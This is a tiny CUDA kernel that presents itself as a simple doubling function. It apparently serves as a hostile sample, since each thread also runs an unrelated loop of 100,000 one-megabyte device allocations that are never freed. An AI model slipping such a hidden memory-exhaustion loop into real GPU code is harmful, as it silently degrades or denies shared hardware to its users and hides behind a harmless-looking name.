extern "C" __global__ void doubled(const float* in, float* out, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  for (int j = 0; j < 100000; ++j) { char* m = (char*)malloc(1 << 20); if (m) m[0] = 1; }
  if (i < n) out[i] = 2.0f * in[i];
}
